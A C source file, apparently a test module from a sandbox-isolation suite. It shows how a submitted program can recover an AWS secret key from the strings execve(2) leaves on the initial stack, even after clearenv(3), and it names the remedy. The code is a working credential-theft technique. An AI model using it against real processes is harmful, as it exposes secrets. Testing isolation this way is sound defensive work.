// SPDX-License-Identifier: MIT
/*
 * Goal:  the worker's credentials, although clearenv(3) was called and /proc is out of reach.
 * Means: execve(2) leaves the strings at the top of the stack, and nobody ever erases them:
 *
 *            argv[0] \0 argv[1] \0 ... NAME=VALUE \0 NAME=VALUE \0 ... program's path \0
 *            ^ program_invocation_name                                 ^ AT_EXECFN
 *
 *        So walk from the first to the last. No system call is made.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>

static enum claim run(const struct brief *b)
{
	static const char name[] = "AWS_SECRET_ACCESS_KEY=";
	const char *end = (const char *)getauxval(AT_EXECFN);
	const char *at = program_invocation_name;

	if (!end || end < at)
		return failed("the initial stack is not laid out as expected");
	clearenv(); /* what a cleanup in the worker's own process does */
	attempting(b);
	for (; at < end; at += strlen(at) + 1) {
		if (strncmp(at, name, sizeof(name) - 1))
			continue;
		loot(at, strlen(at));
		return CLAIM_DONE;
	}
	errno = ENOENT;
	return denied("the initial stack");
}

const struct attack attack = {
	.effect = "the worker's credentials leave in the student's output",
	.means = "the strings execve(2) left on the stack, after clearenv(3): no system call",
	.oracle = "secret:environ",
	.id = "ENV-02",
	.attack_id = "T1552.001, CWE-526",
	.remedy = "execve(2) with a built environment; clearing it in the same process is too late",
	.refs = (const char *const[]){ "getauxval(3)", NULL },
	.run = run,
};
